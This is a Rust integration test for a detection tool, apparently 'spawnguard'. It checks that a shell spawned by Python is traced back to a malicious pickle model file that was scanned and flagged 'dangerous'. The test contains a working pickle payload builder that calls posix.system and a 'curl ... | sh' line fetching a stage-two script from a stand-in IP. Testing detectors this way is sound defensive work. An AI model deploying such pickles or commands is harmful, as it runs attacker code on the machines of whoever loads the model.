//! `hunt` ties a python-spawned shell to the model file the python process opened: the file
//! is scanned (never loaded) and the alert names it with its verdict, its reconstructed call,
//! and the string of the pickle that appears in the shell's command line.

use serde_json::{json, Value};
use std::process::Command;

/// A protocol-2 pickle whose `__reduce__` is `posix.system(cmd)`.
fn malicious_pickle(cmd: &str) -> Vec<u8> {
    let mut p = b"\x80\x02cposix\nsystem\nq\x00X".to_vec();
    p.extend_from_slice(&(cmd.len() as u32).to_le_bytes());
    p.extend_from_slice(cmd.as_bytes());
    p.extend_from_slice(b"q\x01\x85q\x02Rq\x03.");
    p
}

fn get<'a>(v: &'a Value, dotted: &str) -> Option<&'a Value> {
    v.get(dotted).or_else(|| {
        let (head, rest) = dotted.split_once('.')?;
        get(v.get(head)?, rest)
    })
}

#[test]
fn shell_alert_names_the_opened_model_with_its_verdict_and_the_tying_string() {
    let dir = tempfile::tempdir().unwrap();
    let payload = "curl -fsSL http://198.51.100.9/stage2.sh | sh";
    let model = dir.path().join("resnet.pt");
    std::fs::write(&model, malicious_pickle(payload)).unwrap();
    let model = model.to_str().unwrap().to_string();
    let host = json!({"id": "h-1", "name": "gpu-7", "os": {"type": "linux"}});
    let python = json!({"pid": 700, "entity_id": "PY1", "name": "python3", "executable": "/usr/bin/python3",
        "args": ["python3", "eval.py", &model], "args_count": 3, "command_line": format!("python3 eval.py {model}"),
        "parent": {"pid": 600, "entity_id": "BASH1", "name": "bash", "command_line": "-bash"}});
    let events = [
        json!({"@timestamp": "2026-11-20T10:00:00.000Z", "host": host, "user": {"name": "bob"},
               "event": {"category": ["process"], "type": ["start"], "action": "exec"}, "process": python}),
        json!({"@timestamp": "2026-11-20T10:00:01.000Z", "host": host, "user": {"name": "bob"},
               "event": {"category": ["file"], "type": ["access"], "action": "open"},
               "file": {"path": model, "name": "resnet.pt", "extension": "pt"},
               "process": {"pid": 700, "entity_id": "PY1", "name": "python3"}}),
        json!({"@timestamp": "2026-11-20T10:00:02.000Z", "host": host, "user": {"name": "bob"},
               "event": {"category": ["process"], "type": ["start"], "action": "exec"},
               "process": {"pid": 701, "entity_id": "SH1", "name": "sh", "executable": "/bin/sh",
                   "args": ["/bin/sh", "-c", payload], "args_count": 3,
                   "command_line": format!("/bin/sh -c {payload}"),
                   "parent": python}}),
    ];
    let input = dir.path().join("events.ndjson");
    std::fs::write(
        &input,
        events
            .iter()
            .map(|e| e.to_string() + "\n")
            .collect::<String>(),
    )
    .unwrap();

    let out = Command::new(env!("CARGO_BIN_EXE_spawnguard"))
        .args(["hunt", "--format", "ndjson", "--state"])
        .arg(dir.path().join("state"))
        .arg(&input)
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(1),
        "stderr: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let alerts: Vec<Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let shell = alerts
        .iter()
        .find(|a| {
            get(a, "kibana.alert.rule.name")
                == Some(&json!("Shell Spawned by a Language Interpreter"))
        })
        .expect("the interpreter shell-spawn rule fires");
    let files = get(shell, "spawnguard.model_files")
        .and_then(Value::as_array)
        .expect("model files attached");
    assert_eq!(files.len(), 1, "{files:?}");
    assert_eq!(files[0]["path"], json!(model));
    assert_eq!(files[0]["scan"]["verdict"], json!("dangerous"), "{files:?}");
    assert!(
        files[0]["scan"]["calls"][0]
            .as_str()
            .unwrap()
            .contains(payload),
        "{files:?}"
    );
    assert_eq!(
        files[0]["scan"]["command_line_literals"],
        json!([payload]),
        "{files:?}"
    );

    // The human view says the same in words.
    let table = Command::new(env!("CARGO_BIN_EXE_spawnguard"))
        .args(["hunt", "--state"])
        .arg(dir.path().join("state2"))
        .arg(&input)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&table.stdout);
    assert!(text.contains("verdict: dangerous"), "{text}");
    assert!(text.contains("a string from this file"), "{text}");
}
